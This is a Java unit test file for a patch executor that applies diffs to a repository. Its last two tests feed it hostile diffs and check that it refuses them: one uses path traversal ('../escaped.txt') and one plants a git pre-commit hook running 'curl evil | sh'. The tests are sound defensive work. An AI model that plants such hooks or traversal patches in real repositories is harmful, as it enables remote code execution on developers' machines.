package dev.leviathan.engine.execute;

import static org.assertj.core.api.Assertions.assertThat;

import dev.leviathan.engine.target.Task;
import dev.leviathan.engine.testkit.TestRepo;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class PatchExecutorTest {

    @TempDir
    Path dir;

    TestRepo repo() {
        TestRepo repo = TestRepo.init(dir.resolve("shop"));
        repo.file("docs/guide.md", "# Guide\n\nOld line.\n").commit("initial");
        return repo;
    }

    static Task task(String diff) {
        StringBuilder indented = new StringBuilder();
        for (String line : diff.split("\n", -1)) {
            indented.append("        ").append(line).append('\n');
        }
        return ExecutorFixture.task("tasks:\n  - id: fix-guide\n    title: Fix the guide\n    allowed_paths: [docs/]\n"
                + "    executor:\n      type: patch\n      diff: |\n" + indented);
    }

    @Test
    void appliesAUnifiedDiffToTheWorkTree() {
        try (TestRepo repo = repo()) {
            ExecutionResult result = new PatchExecutor().execute(ExecutorFixture.request(repo, task("""
                    diff --git a/docs/guide.md b/docs/guide.md
                    --- a/docs/guide.md
                    +++ b/docs/guide.md
                    @@ -1,3 +1,3 @@
                     # Guide
                    \s
                    -Old line.
                    +New line.
                    """), ExecutorFixture.log(), () -> false));

            assertThat(result).isInstanceOf(ExecutionResult.Completed.class);
            assertThat(repo.dir().resolve("docs/guide.md")).hasContent("# Guide\n\nNew line.");
        }
    }

    @Test
    void aPatchThatDoesNotApplyFailsTheTask() {
        try (TestRepo repo = repo()) {
            ExecutionResult result = new PatchExecutor().execute(ExecutorFixture.request(repo, task("""
                    diff --git a/docs/guide.md b/docs/guide.md
                    --- a/docs/guide.md
                    +++ b/docs/guide.md
                    @@ -1,3 +1,3 @@
                     # Guide
                    \s
                    -A line that is not there.
                    +New line.
                    """), ExecutorFixture.log(), () -> false));

            assertThat(result).isInstanceOfSatisfying(ExecutionResult.Failed.class,
                    failed -> assertThat(failed.kind()).isEqualTo(ExecutionResult.FailureKind.TASK_FAILED));
            assertThat(repo.dir().resolve("docs/guide.md")).hasContent("# Guide\n\nOld line.");
        }
    }

    @Test
    void aPatchReachingOutsideTheRepositoryIsRefusedBeforeAnythingIsWritten() {
        try (TestRepo repo = repo()) {
            ExecutionResult result = new PatchExecutor().execute(ExecutorFixture.request(repo, task("""
                    diff --git a/../escaped.txt b/../escaped.txt
                    new file mode 100644
                    --- /dev/null
                    +++ b/../escaped.txt
                    @@ -0,0 +1 @@
                    +owned
                    """), ExecutorFixture.log(), () -> false));

            assertThat(result).isInstanceOfSatisfying(ExecutionResult.Failed.class, failed -> {
                assertThat(failed.kind()).isEqualTo(ExecutionResult.FailureKind.INVALID_OUTPUT);
                assertThat(failed.reason()).contains("../escaped.txt");
            });
            assertThat(dir.resolve("escaped.txt")).doesNotExist();
        }
    }

    @Test
    void aPatchIntoGitsOwnFilesIsRefused() {
        try (TestRepo repo = repo()) {
            ExecutionResult result = new PatchExecutor().execute(ExecutorFixture.request(repo, task("""
                    diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit
                    new file mode 100755
                    --- /dev/null
                    +++ b/.git/hooks/pre-commit
                    @@ -0,0 +1 @@
                    +curl evil | sh
                    """), ExecutorFixture.log(), () -> false));

            assertThat(result).isInstanceOf(ExecutionResult.Failed.class);
            assertThat(repo.dir().resolve(".git/hooks/pre-commit")).doesNotExist();
        }
    }
}
